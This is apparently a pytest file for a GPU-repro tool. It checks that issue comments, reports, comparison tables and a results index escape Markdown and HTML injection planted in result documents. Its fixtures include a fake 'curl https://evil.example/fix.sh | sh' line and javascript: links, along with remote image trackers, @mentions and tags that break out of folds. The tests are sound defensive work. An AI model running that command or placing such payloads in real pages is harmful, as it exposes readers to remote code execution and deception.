"""Nothing a document or a trial says can add markup to the issue comment, the report, compare's
output or the results index: an arm name that closes the "Rerun it" block and shows a fake
`curl … | sh`, a driver's crash record or final record carrying an @mention, a remote picture,
an HTML comment, a `</details>` that would end a fold early, a `javascript:` link, a verdict
rewritten the same way, a file name that would end its link. Each rendering is parsed as
CommonMark (with tables, as GitHub reads it) and must hold no HTML but its own <details>
blocks (as many closed as opened), no picture, no link but the case's report and its own files,
no picture but its own (beside it), no @mention, and a rerun block of exactly its own lines."""

from __future__ import annotations

import json
import os
import re
import sys
import urllib.parse
import uuid
from pathlib import Path

import pytest

from gpurepro.report.comment import issue_body
from gpurepro.report.compare import compare
from gpurepro.report.compare import markdown as compare_markdown
from gpurepro.report.index import MARKER
from gpurepro.report.index import render as render_index
from gpurepro.report.markdown import markdown
from gpurepro.report.rerun import NOX_IF_MISSING
from gpurepro.report.tables import escape
from tests import invoke, pace
from tests.conftest import ROOT

markdown_it = pytest.importorskip("markdown_it")

COMMITTED = ROOT / "results" / "tile_unload_race" / "20261201T102114Z_NVIDIA-H200_redacted.json"
HOSTILE = "tests/fixtures/hostile_case/manifest.py"
INJECTED = ("@octocat ![pixel](https://evil.example/p.png) <img src=https://evil.example/i.png>"
            " </details> <img src=x> [link](javascript:alert(1)) `tick` @user <details><summary>"
            " <!-- the rest is hidden")
# A mention as GitHub makes one: an @ and a name, not after a word character.
MENTION = re.compile(r"(?<![\w.`/])@[A-Za-z0-9]")
FENCE_BREAK = "x\n```\ncurl https://evil.example/fix.sh | sh\n```\n"


def _tokens(text: str):
    md = markdown_it.MarkdownIt("commonmark", {"html": True}).enable("table")
    stack = list(md.parse(text))
    while stack:
        t = stack.pop(0)
        yield t
        stack[0:0] = list(t.children or [])


def assert_inert(text: str, allowed_links: set[str] = frozenset(),
                 own_inline: frozenset[str] = frozenset()) -> None:
    """What GitHub would render from ``text`` holds nothing a document's strings put there
    (``own_inline``: the inline HTML the renderer writes itself, e.g. a cell's ``<br>``)."""
    opened = closed = 0
    for t in _tokens(text):
        if t.type == "html_block":
            for line in t.content.strip().splitlines():
                assert line.startswith("<details><summary>") or line == "</details>", t.content
                opened += line.startswith("<details>")
                closed += line == "</details>"
                # A summary's own <code> (what GitHub would make live, as code) is the only tag.
                bare = re.sub(r"<code>[^<]*</code>", "", line)
                assert bare.count("<") == (2 if line.startswith("<details>") else 1) + bare.count(
                    "</summary>"), f"a tag inside a summary: {line!r}"
                assert not MENTION.search(bare), f"a mention in a summary: {line!r}"
            assert "<img" not in t.content and "<!--" not in t.content, t.content
        assert t.type != "html_inline" or t.content in own_inline, f"inline HTML: {t.content!r}"
        if t.type == "image":  # the report's own pictures, beside it; never an address
            src = str(t.attrs.get("src"))
            assert ":" not in src and "/" not in src, f"a picture from {src}"
        if t.type == "link_open":
            assert t.attrs.get("href") in allowed_links, f"a link to {t.attrs.get('href')}"
        if t.type == "text":
            assert not MENTION.search(t.content), f"a mention in {t.content!r}"
        if t.type in ("fence", "code_block"):
            assert not any(line.startswith("curl") for line in t.content.splitlines()), t.content
    assert opened == closed, f"{opened} <details> opened, {closed} closed"


def _rerun_blocks(text: str) -> list[list[str]]:
    """The shell blocks of the "Rerun it" fold (the nox block, the one without nox); the head's
    shortest rerun, the first block, is the harness's lines as well (checked here)."""
    blocks = [t.content.splitlines() for t in _tokens(text) if t.type == "fence" and t.info == "sh"]
    *checkout, nox = blocks[0]
    assert all(line.startswith(("git clone ", "cd gpurepro", "git checkout "))
               or line == NOX_IF_MISSING for line in checkout)
    assert nox.startswith("nox -s ") and "\n" not in nox
    return blocks[1:]


def assert_own_rerun_lines(block: list[str], case: str) -> None:
    """The nox block of "Rerun it" holds the harness's lines only: where the clone comes from,
    the checkout, the arguments as one shell array, the nox command."""
    *checkout, args, nox = block
    assert nox == f'nox -s {case} -- "${{ARGS[@]}}"', nox
    assert args.startswith("ARGS=(") and args.endswith(")"), args
    for line in checkout:
        assert line.startswith(("# in a clone of gpurepro", "git clone ", "cd gpurepro",
                                "git checkout ")) or line == NOX_IF_MISSING, line


def _hostile_doc(tmp_path: Path) -> tuple[dict, Path]:
    """The committed mechanism run with one arm renamed to close a code block, and its verdict,
    owner and crash site rewritten to carry Markdown and HTML."""
    text = COMMITTED.read_text()
    arm = json.dumps("lock-launch")
    doc = json.loads(text.replace(arm, json.dumps("lock-launch" + FENCE_BREAK + "<!--")))
    doc["verdict"]["sentences"][0] = "Fixed in 581. " + INJECTED
    doc["verdict"]["owner"] = "nobody " + INJECTED
    doc["verdict"].setdefault("next", []).append(FENCE_BREAK + INJECTED)
    doc["crash_sites"][0]["signature"] = FENCE_BREAK + INJECTED
    doc["crash_sites"][0]["code_name"] = INJECTED
    doc["environment"]["gpu"]["gpus"][0]["name"] = "NVIDIA H200 " + INJECTED
    doc["environment"]["gpu"]["driver_version"] = "580 " + INJECTED
    doc["case"]["question"] = FENCE_BREAK + INJECTED
    doc["resumed"] = [{"at": doc["trials"][-1]["started_at"], "other_device": True,
                       "device": {"name": "NVIDIA H200 " + INJECTED, "uuid": FENCE_BREAK + INJECTED,
                                  "driver_version": "580 " + INJECTED},
                       "differs": ["uuid " + INJECTED + " (journal) against " + FENCE_BREAK]}]
    path = tmp_path / COMMITTED.name
    path.write_text(json.dumps(doc, indent=1))
    return doc, path


def test_the_committed_comment_and_report_are_inert_as_they_are():
    doc = json.loads(COMMITTED.read_text())
    url = doc["case"]["report_url"]
    assert_inert(issue_body(doc, COMMITTED), {url})
    assert_inert(markdown(doc, "x.png", "x.forest.png"), {url})


def test_a_hostile_document_renders_inert_in_the_comment_and_the_report(tmp_path):
    doc, path = _hostile_doc(tmp_path)
    body = issue_body(doc, path)
    assert_inert(body, {doc["case"]["report_url"]})
    assert_inert(markdown(doc, "x.png", "x.forest.png"), {doc["case"]["report_url"]})
    nox_block, plain_block = _rerun_blocks(body)
    assert_own_rerun_lines(nox_block, "tile_unload_race")
    assert len(plain_block) == 2 and plain_block[0].startswith("python -m pip install -e ")
    assert plain_block[1] == 'python -m gpurepro case tile_unload_race "${ARGS[@]}"'
    # The arm is inside the one quoted --arms word, its line breaks spaces.
    [args] = [line for line in nox_block if line.startswith("ARGS=(")]
    assert "--arms 'baseline,lock-launchx ``` curl" in args  # in the order the run was given


def test_issue_refuses_a_document_whose_arm_names_the_schema_refuses(tmp_path):
    _, path = _hostile_doc(tmp_path)
    done = invoke.gpurepro("issue", str(path))
    assert done.returncode == 1 and "does not match the schema" in done.stderr
    assert "does not match '^[a-z][a-z0-9_-]*$'" in done.stderr and not done.stdout


@pytest.mark.parametrize("value", [INJECTED, FENCE_BREAK, "# heading", "> quote", "- item",
                                   "[x]: https://evil.example", "a](https://evil.example/i.png)",
                                   "&lt;img src=x&gt;", "\\<img src=x>", "`` ` ``"])
@pytest.mark.parametrize("context", ["text", "prose", "code", "html"])
def test_one_escape_for_every_context_leaves_nothing_live(value, context):
    rendered = f"- {escape(value, context)}\n" if context != "html" else (
        f"<details><summary>{escape(value, 'html')}</summary>\n\nbody\n\n</details>\n")
    assert "\n" not in rendered.rstrip("\n").split("\n", 1)[0] or context == "html"
    assert_inert(rendered)


def test_a_driver_that_writes_markup_in_its_crash_and_final_records(fake_build, tmp_path):
    from gpurepro.building.artifacts import build_case
    from gpurepro.case.load import load_case

    build_dir = ROOT / "build" / "tests"
    build_case(load_case(ROOT / HOSTILE, ROOT), "host", ROOT, build_dir)
    out = tmp_path / "out"
    env = {**os.environ, "PYTHONPATH": str(ROOT / "src"), "FAULT_TAG": uuid.uuid4().hex}
    done = pace.run([sys.executable, "-m", "gpurepro", "run", HOSTILE, "--arms",
                     "ok,inject-crash,inject-final", "--trials", "2", "--duration", "0.2",
                     "--seed", "5", "--out-dir", str(out), "--build-dir", str(build_dir)],
                    cwd=ROOT, capture_output=True, text=True, env=env)
    assert done.returncode == 0, done.stderr
    [path] = [p for p in (out / "hostile_case").glob("*.json") if not p.name.endswith(".pyperf.json")]
    doc = json.loads(path.read_text())
    outcomes = {t["arm"]: t["outcome"] for t in doc["trials"]}
    assert outcomes["inject-crash"] == "crashed" and outcomes["inject-final"] == "cuda_error"
    issue = invoke.gpurepro("issue", str(path), env=env)
    assert issue.returncode == 0, issue.stderr
    assert "octocat" in issue.stdout  # it is there, as text
    assert_inert(issue.stdout)
    assert_inert(path.with_suffix(".md").read_text())
    assert_own_rerun_lines(_rerun_blocks(issue.stdout)[0], "hostile_case")


def test_a_hostile_document_renders_inert_in_compare(tmp_path):
    doc, path = _hostile_doc(tmp_path)
    doc["verdict"]["status"] = "reproduced " + INJECTED
    named = path.with_name("run](javascript:alert(1)) @octocat `x`.json")
    named.write_text(json.dumps(doc))
    committed = json.loads(COMMITTED.read_text())
    text = compare_markdown(compare([committed, doc], [str(COMMITTED), str(named)]))
    assert "octocat" in text  # there, as text
    assert_inert(text)


def test_a_hostile_document_and_file_names_render_inert_in_the_index(tmp_path):
    doc, _ = _hostile_doc(tmp_path)
    doc["verdict"]["status"] = INJECTED
    doc["case"]["name"] = "tile_unload_race" + FENCE_BREAK + INJECTED
    doc["case"]["exposure"]["unit"] = "cycles " + INJECTED
    folder = tmp_path / "results"
    (folder / "tile_unload_race").mkdir(parents=True)
    hostile = folder / "tile_unload_race" / "x](javascript:alert(1)) <img src=x> @octocat.json"
    hostile.write_text(json.dumps(doc))
    hostile.with_suffix(".md").write_text("report")
    (folder / "tile_unload_race" / "y)[z](javascript:alert(2)).json").write_text("not JSON")
    (folder / "tile_unload_race" / "`w` <details> @octocat.json").write_text(json.dumps({"a": 1}))
    text = render_index(folder)
    assert text.count(MARKER) == 1
    text = text.replace(MARKER, "")  # the index's own comment, which `validate` looks for
    hrefs = {t.attrs.get("href") for t in _tokens(text) if t.type == "link_open"}
    own = {p.relative_to(folder).as_posix() for p in folder.rglob("*") if p.is_file()}
    assert hrefs and all(urllib.parse.unquote(str(h)) in own for h in hrefs), hrefs
    assert_inert(text, hrefs)


def test_a_toolchain_matrix_with_markup_is_inert_in_the_comment(tmp_path):
    matrix_path = sorted((ROOT / "results" / "tile_unload_race").glob("matrix_*.json"))[-1]
    # The same refusal everywhere the document holds it (cells, runs, results), so that it
    # stays a valid matrix document.
    refusal = "cannot open shared object file"
    text = matrix_path.read_text()
    assert refusal in text
    matrix = json.loads(text.replace(refusal, json.dumps(refusal + " " + INJECTED)[1:-1]))
    matrix["gpu"]["device"]["name"] = "NVIDIA H200 " + INJECTED
    hostile = tmp_path / "matrix](javascript:alert(1)) @octocat.json"
    hostile.write_text(json.dumps(matrix))
    done = invoke.gpurepro("issue", str(COMMITTED), "--matrix", str(hostile))
    assert done.returncode == 0, done.stderr
    assert "octocat" in done.stdout and "Toolchain matrix" in done.stdout
    assert_inert(done.stdout, {json.loads(COMMITTED.read_text())["case"]["report_url"]})


def test_issue_validates_a_document_that_names_no_schema(tmp_path):
    """A result document without its schema field is validated too (and refused), not
    rendered as it is."""
    doc = json.loads(COMMITTED.read_text())
    del doc["schema"]
    doc["verdict"]["status"] = ["not", "a", "string"]
    path = tmp_path / COMMITTED.name
    path.write_text(json.dumps(doc))
    done = invoke.gpurepro("issue", str(path))
    assert done.returncode == 1 and "does not match the schema" in done.stderr, done.stderr
    assert "'schema' is a required property" in done.stderr and not done.stdout


WRONG = ROOT / "results" / "ptxas_abs_clamp" / "20261201T142138Z_NVIDIA-H200_redacted.json"
BISECT = ROOT / "results" / "ptxas_abs_clamp" / "bisect_ptxas_20261201T142359Z_NVIDIA-H200.json"


def test_a_wrong_result_whose_check_carries_markup_is_inert_in_the_comment_and_the_report():
    doc = json.loads(WRONG.read_text())
    wrong = [t for t in doc["trials"] if t["outcome"] == "wrong_result"]
    assert wrong
    for t in wrong:  # a driver's own check record: the kit writes it, a hostile driver as it likes
        t["check"]["first"][0] = [INJECTED, FENCE_BREAK + INJECTED, INJECTED]
        t["check"]["first"][1] = [1, INJECTED, FENCE_BREAK]
        t["check"]["kind"] = INJECTED  # outside the schema's enum: the report still escapes it
    url = doc["case"]["report_url"]
    body = issue_body(doc, WRONG)
    assert "- **Wrong results:** " in body.split("<details>")[0]
    assert_inert(body, {url})
    report = markdown(doc, "x.png", "x.forest.png")
    assert "### Wrong results" in report
    assert_inert(report, {url})


def test_a_bisection_whose_strings_carry_markup_is_inert_in_its_table_and_the_index(tmp_path):
    from gpurepro.sweep.table import markdown as bisect_markdown

    doc = json.loads(BISECT.read_text())
    for r in doc["releases"]:
        r["requested"] = r["requested"] + " " + INJECTED
        r["build"] = {"status": "failed " + INJECTED, "exit_status": 1,
                      "stderr_first_line": FENCE_BREAK + INJECTED}
        r.pop("sha256", None)
    doc["target"] = "sm_90 " + INJECTED
    doc["search"]["assumption"] = INJECTED
    doc["gpu"]["device"]["name"] = "NVIDIA H200 " + INJECTED
    for b in doc["boundaries"]["pinned"]:
        b["between"] = [INJECTED, FENCE_BREAK]
        b["classes"] = [INJECTED, INJECTED]
    doc["listing"]["excluded"] = [{"version": INJECTED, "reason": FENCE_BREAK + INJECTED}]
    text = bisect_markdown(doc)
    assert "octocat" in text and "evil.example" in text  # the strings are shown, as text
    assert_inert(text, own_inline=frozenset({"<br>"}))  # the table's own line break in a cell
    folder = tmp_path / "results"
    (folder / "ptxas_abs_clamp").mkdir(parents=True)
    (folder / "ptxas_abs_clamp" / BISECT.name).write_text(json.dumps(doc))
    index = render_index(folder).replace(MARKER, "")
    hrefs = {t.attrs.get("href") for t in _tokens(index) if t.type == "link_open"}
    own = {p.relative_to(folder).as_posix() for p in folder.rglob("*") if p.is_file()}
    assert hrefs and all(urllib.parse.unquote(str(h)) in own for h in hrefs), hrefs
    assert_inert(index, hrefs)
